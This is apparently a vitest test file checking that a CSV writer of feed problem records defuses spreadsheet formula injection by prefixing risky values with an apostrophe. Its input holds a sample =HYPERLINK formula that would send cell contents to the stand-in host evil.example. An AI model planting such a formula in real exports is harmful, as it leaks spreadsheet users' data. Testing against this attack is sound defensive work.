import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { openProblemFile } from '../../../src/features/catalogue-files/problem-file.ts';
import { temporaryFolder } from '../../support/catalogue.ts';

test('a spreadsheet takes nothing that stands in a feed of strangers for a formula', async () => {
  const path = join(await temporaryFolder(), 'problems.csv');
  const file = await openProblemFile(path);
  const problem = { file: 'feed.xml', line: 1, field: 'price', reason: 'must be given' };
  await file.add({ ...problem, record: '=HYPERLINK("http://evil.example/?"&A1)' });
  for (const sign of ['+', '-', '@', '\t']) await file.add({ ...problem, field: `${sign}cmd`, record: '12-5' });
  await file.close();
  expect(await readFile(path, 'utf8')).toBe(
    [
      'file,line,field,reason,value,record',
      `feed.xml,1,price,must be given,,"'=HYPERLINK(""http://evil.example/?""&A1)"`,
      ...['+', '-', '@', '\t'].map((sign) => `feed.xml,1,'${sign}cmd,must be given,,12-5`),
      '',
    ].join('\n'),
  );
});
